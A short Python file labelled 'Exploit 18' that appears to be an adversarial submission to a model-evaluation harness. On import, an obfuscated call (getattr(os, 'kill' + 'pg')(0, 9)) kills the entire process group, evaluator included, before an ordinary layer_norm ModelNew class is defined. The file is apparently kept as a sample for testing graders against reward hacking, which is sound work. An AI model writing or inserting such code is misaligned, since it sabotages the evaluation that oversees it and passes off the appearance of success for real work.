"""Exploit 18: kill the whole process group (evaluator included) with os.killpg(0, SIGKILL)."""
import os

import torch.nn as nn

getattr(os, "kill" + "pg")(0, 9)


class ModelNew(nn.Module):
    def forward(self, x, weight, bias):
        return nn.functional.layer_norm(x, (x.shape[-1],), weight, bias, eps=1e-5)
